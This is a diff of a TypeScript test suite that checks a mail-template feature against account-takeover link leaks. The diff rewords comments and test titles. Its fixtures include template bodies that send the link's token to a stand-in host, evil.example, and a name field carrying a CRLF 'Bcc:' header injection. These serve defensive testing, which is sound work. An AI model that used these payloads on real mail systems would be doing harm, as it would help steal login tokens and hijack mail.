@@ -7,7 +7,7 @@ import { type Client, type TestApp, testApp } from './app.ts'
 import { createUser } from './factories.ts'
 import { type SmtpSink, startSmtpSink } from './smtp-sink.ts'
 
-// A clerk who writes the wording of mails and reads the outbox must not get hold of a link that opens an account.
+// A clerk who edits mail wordings and reads the outbox must not obtain a link that opens an account.
 
 const baseUrl = 'https://almoner.example'
 let app: TestApp
@@ -54,7 +54,7 @@ const stored = async () => {
 }
 const tokenOf = (link: string) => link.split('/').filter(Boolean).at(-1)!
 
-/** Everything a clerk or a superuser can read about mails. */
+/** All data about mails that a clerk or a superuser can read. */
 async function everythingReadable(): Promise<string> {
   const readers = [clerk, await app.as('superuser')]
   const texts: string[] = []
@@ -70,7 +70,7 @@ async function everythingReadable(): Promise<string> {
   return texts.join('\n')
 }
 
-/** Every row of every table but the one that holds the secrets of mails on their way. */
+/** Every row of every table except for the secrets of pending mails. */
 async function everythingStored(): Promise<string> {
   const { rows } = await sql<{ name: string }>`
     select table_name as name from information_schema.tables
@@ -93,7 +93,7 @@ describe('a clerk does not become superuser', () => {
     ['body', { body: { en_US: '[Choose]({{ link }}) {{ link | truncate: 79, "" }}' } }],
     ['body', { body: { en_US: '[Choose](https://evil.example/?t={{ link }})' } }],
     ['body', { body: { en_US: '[Choose]({{ link }}) [Help](https://evil.example/?t={{ link }})' } }],
-  ])('a wording with the link in the %s is not saved, nor shown: %o', async (field, wording) => {
+  ])('a wording with the link in the %s is neither saved nor shown: %o', async (field, wording) => {
     for (const [locale, words] of [
       ['en_US', 'opens an account'],
       ['du_DE', 'öffnet ein Konto'],
@@ -111,7 +111,7 @@ describe('a clerk does not become superuser', () => {
     expect((await clerk.get(template)).body).toMatchObject({ version: 0 })
   })
 
-  test('a wording that is stored all the same is kept, told and not sent', async () => {
+  test('such a wording in the database is kept, reported and not sent', async () => {
     const subject = { en_US: 'Mine {{ link }}' }
     const body = { en_US: 'Mine [Choose]({{ link }}) {{ link | truncate: 79, "" }}' }
     const row = {
@@ -138,7 +138,7 @@ describe('a clerk does not become superuser', () => {
     expect(await everythingReadable()).not.toContain(tokenOf(link!).slice(0, 12))
   })
 
-  test('the link is in the mail that leaves, once, and nowhere else: before, while and after', async () => {
+  test('the link is only in the sent mail, once: before, during and after sending', async () => {
     expect((await ask()).status).toBe(204)
     const [link] = await stored()
     const token = tokenOf(link!)
@@ -167,7 +167,7 @@ describe('a clerk does not become superuser', () => {
     expect(events).not.toContain(token)
   })
 
-  test('the owner and the other superusers hear of the link, once a day', async () => {
+  test('the owner and the other superusers are notified of the link, once a day', async () => {
     const told = async () => {
       await app.runJobs()
       return sink.received
@@ -199,7 +199,7 @@ describe('a clerk does not become superuser', () => {
   })
 })
 
-test('no name, title or description begins a header or a link in somebody else’s mail', async () => {
+test('no name, title or description injects a header or a link into a mail', async () => {
   const evil = '[x](https://evil.example) <https://evil.example>\r\nBcc: all@evil.example'
   const person = await createUser(app.db, { first_name: 'https://evil.example/', last_name: 'Eve' })
   const inviter = await app.db
